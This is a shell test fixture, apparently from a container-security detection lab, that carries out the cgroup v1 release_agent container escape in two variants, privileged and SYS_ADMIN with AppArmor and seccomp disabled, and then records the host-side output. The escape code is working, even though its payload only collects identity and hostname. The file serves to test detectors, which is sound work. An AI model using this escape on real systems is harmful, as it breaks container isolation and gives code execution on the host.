# cgroup-release-agent-written: the classic escape: a container mounts a cgroup v1 hierarchy, writes release_agent,
#   and the kernel runs its program on the host when the last process of a cgroup ends.
# shows: the mount of cgroup inside a container, writes of release_agent and notify_on_release, the payload on the host
# payload: yes
# label: malicious
# expects: [cgroup-release-agent-written, cgroup-v1-mounted-in-container, container-layer-program-run-on-host]
# allows: [privileged-container, container-confinement-disabled, dangerous-capability-added, engine-socket-connected, image-layer-tampered]
act() {
    if dev; then
        docker run --rm --privileged alpine:3.19 sh -c '
            mkdir /tmp/cgrp; mount -t cgroup -o pids cgroup /tmp/cgrp; mkdir /tmp/cgrp/lab-escape
            echo 1 >/tmp/cgrp/lab-escape/notify_on_release
            host=$(sed -n "s/.*\bupperdir=\([^,]*\).*/\1/p" /etc/mtab /proc/mounts | head -1)
            printf "#!/bin/sh\necho \$\$ >%s/pid\nid >%s/output\ncat /proc/sys/kernel/hostname >>%s/output\nsleep 0.2\n" $host $host $host >/cmd; chmod a+x /cmd
            echo "$host/cmd" >/tmp/cgrp/release_agent
            sh -c "echo \$\$ >/tmp/cgrp/lab-escape/cgroup.procs"
            sleep 1; cat /output; echo >/tmp/cgrp/release_agent; rmdir /tmp/cgrp/lab-escape; echo PAYLOAD $(cat /pid)' |
            tee /srv/lab/escape.out
    else
        docker run --rm --cap-add=SYS_ADMIN --security-opt apparmor=unconfined --security-opt seccomp=unconfined busybox:1.36 sh -c '
            d=/mnt/c; mkdir -p $d; mount -t cgroup -o freezer none $d && mkdir $d/lab-escape
            up=$(awk "\$2 == \"/\"" /proc/mounts | tr , "\n" | sed -n s/^upperdir=//p)
            echo "#!/bin/sh" >/x; echo "echo \$\$ >$up/pid; uname -n >$up/o; ls / | wc -l >>$up/o" >>/x; chmod 755 /x
            echo "$up/x" >$d/release_agent; echo 1 >$d/lab-escape/notify_on_release
            sh -c "echo 0 >$d/lab-escape/cgroup.procs; sleep 0.1"
            sleep 1; cat /o; echo >$d/release_agent; rmdir $d/lab-escape; echo PAYLOAD $(cat /pid)' |
            tee /srv/lab/escape.out
    fi
    sed -n 's/^PAYLOAD //p' /srv/lab/escape.out >/lab/pids
}
